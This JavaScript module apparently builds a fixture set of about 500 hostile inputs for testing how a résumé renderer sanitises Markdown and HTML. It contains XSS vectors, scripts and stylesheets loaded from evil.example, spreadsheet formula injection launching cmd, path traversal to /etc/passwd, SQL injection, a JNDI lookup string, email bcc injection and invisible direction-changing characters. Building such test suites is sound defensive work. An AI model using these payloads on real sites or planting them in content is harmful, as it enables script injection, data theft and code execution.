// Texts that somebody could put into a résumé so that it does something in the page of whoever reads it.

const SCHEMES = ["javascript", "JaVaScRiPt", "data", "vbscript", "file", "blob", "filesystem", "view-source", "ms-msdt", "x-apple"];
const HIDDEN = [
  (s) => `${s}:`,
  (s) => ` ${s}:`,
  (s) => `\u0001${s}:`,
  (s) => `${s[0]}\t${s.slice(1)}:`,
  (s) => `${s[0]}\n${s.slice(1)}:`,
  (s) => `${s[0]}\u0000${s.slice(1)}:`,
  (s) => `${s[0]}\u200b${s.slice(1)}:`,
  (s) => `&#${s.charCodeAt(0)};${s.slice(1)}:`,
  (s) => `&#x${s.charCodeAt(0).toString(16)};${s.slice(1)}&colon;`,
  (s) => `%${s.charCodeAt(0).toString(16)}${s.slice(1)}:`,
  (s) => `https:${s}:`,
];
const LINKS = [
  (url) => `${url}alert(1)//https://a.org`,
  (url) => `[a](${url}alert(1))`,
  (url) => `<a href="${url}alert(1)">a</a>`,
];

const MARKUP = `<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script\\x20type="text/javascript">alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<img src=\`x\` onerror=\`alert(1)\`>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>
<math href="javascript:alert(1)">a</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<applet code=x></applet>
<base href="https://evil.example/">
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=https://evil.example">
<style>*{background:url(//evil.example)}</style>
<style>@import "//evil.example/x.css";</style>
<form action=//evil.example><input type=submit></form>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<button formaction="javascript:alert(1)">a</button>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<marquee onstart=alert(1)>a</marquee>
<a href=x onclick=alert(1)>a</a>
<a ping=//evil.example href=x>a</a>
<p style="position:fixed;inset:0">a</p>
<div style="background:url(javascript:alert(1))">a</div>
<table background="javascript:alert(1)"></table>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><script>alert(1)</script></xmp>
<plaintext>
<!--><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<?php echo 1 ?>
<% alert(1) %>
{{constructor.constructor('alert(1)')()}}
\${alert(1)}
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</p></main></body></html><script>alert(1)</script>
</li></ul><script>alert(1)</script>
</textarea><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
\`><script>alert(1)</script>
"/><img src=x onerror=alert(1)>
" style="x:expression(alert(1))
" autofocus onfocus=alert(1) x="
x" srcdoc="<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;
&LT;script&GT;alert(1)
&amp;lt;script&amp;gt;
&NewLine;&Tab;javascript&colon;alert(1)
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\u00bcscript\u00bealert(1)\u00bc/script\u00be
＜script＞alert(1)＜/script＞
![a](javascript:alert(1))
![a](x "onerror=alert(1))
![a](https://evil.example/pixel.png)
[a](javascript:alert(1) "t")
[a](<javascript:alert(1)>)
[a]( javascript:alert(1))
[a](java\\script:alert(1))
[a](java&#115;cript:alert(1))
[a](JaVaScRiPt&colon;alert(1))
[a](data:text/html;base64,PHNjcmlwdD4=)
[a](//evil.example)
[a](\\\\evil.example)
[a]: javascript:alert(1)
[a][b] [b]: javascript:alert(1)
[a] [a]: <javascript:alert(1)>
[^1]: <script>alert(1)</script>
<javascript:alert(1)>
<data:text/html,x>
<https://a.org"onclick=alert(1)>
<a@b.org"onclick=alert(1)>
[\`a](x)\`](javascript:alert(1))
[a](x)<img src=x onerror=alert(1)>
\`<script>alert(1)</script>\`
\`\`\`html <script>alert(1)</script>
~~~ <script>alert(1)</script>
    <script>alert(1)</script>
> <script>alert(1)</script>
- <script>alert(1)</script>
1. <script>alert(1)</script>
# <script>alert(1)</script>
| a | <script>alert(1)</script> |
a | b --|-- <img src=x onerror=alert(1)> | c
===
---
***
+++
:::
$$\\href{javascript:alert(1)}{a}$$
\\<script>alert(1)</script>
\\\\<script>alert(1)</script>
*<script>*alert(1)</script>
**<img src=x onerror=alert(1)>**
_<svg onload=alert(1)>_
[<img src=x onerror=alert(1)>](https://a.org)
[![a](javascript:alert(1))](javascript:alert(1))
https://a.org/"onmouseover="alert(1)
https://a.org/<script>alert(1)</script>
https://a.org/)[a](javascript:alert(1)
https://a.org/>[a](javascript:alert(1))
https://a.org/\u202egpj.exe
https://a.org@evil.example/
https:javascript:alert(1)
https://javascript:alert(1)@a.org
http://[::1]/"><script>alert(1)</script>
mailto:a@b.org?bcc=evil@evil.example
a@b.org?subject=x&bcc=evil@evil.example
a@b.org%0d%0abcc:evil@evil.example
a@b.org"><script>alert(1)</script>
"a"@b.org onclick=alert(1)
a@b.org)[a](javascript:alert(1)
tel:+1"onclick="alert(1)
+1 555 0100;ext=<script>
=HYPERLINK("https://evil.example","a")
=cmd|' /C calc'!A0
+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
=IMPORTXML("https://evil.example","//a")
=1+1";=1+1
\\begin{document}\\input{/etc/passwd}
../../../../etc/passwd
'; DROP TABLE resumes; --
" OR 1=1 --
\${jndi:ldap://evil.example/a}
{% include "/etc/passwd" %}
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`.split("\n");

/// The twelve characters that change directions, and those of no width.
export const UNSEEN = [..."\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\u2060\ufeff\u00ad"];

/// Some 500 texts, none twice.
export const PAYLOADS = [
  ...new Set([
    ...SCHEMES.flatMap((scheme) => HIDDEN.flatMap((hide) => LINKS.map((link) => link(hide(scheme))))),
    ...MARKUP,
    ...UNSEEN.flatMap((c) => [`user${c}nimda`, `${c}Ada`, `a ${c} <b>b</b>`]),
  ]),
];

/// What texts at random are made of: marks of Markdown and HTML, and what could go wrong between them.
export const PIECES = [
  ..."ab12 *_`~#>-+=.:;,()[]{}<>!?|\\/&\"'$%^@",
  ..."é漢ש🎉\u00a0\u202e\u200b\t\n",
  ...["**", "](", "[a](b)", "<b>", "</b>", "<!--", "-->", "<?", "<![CDATA[", "&amp;", "&#65;", "&colon;", "```", "~~", "---", "===", "- ", "1. ", "# ", "  ", "\\\\"],
  ...["https://a.org", "www.a.org", "a@b.org", "javascript:", "<a href=", "<script>", " · ", " — ", ": ", ":**", "word", "and"],
];

/// Texts at random, the same for the same number.
export function random(number) {
  let state = number + 1;
  const below = (bound) => {
    // mulberry32
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) % bound;
  };
  return () => Array.from({ length: 1 + below(12) }, () => PIECES[below(PIECES.length)]).join("");
}
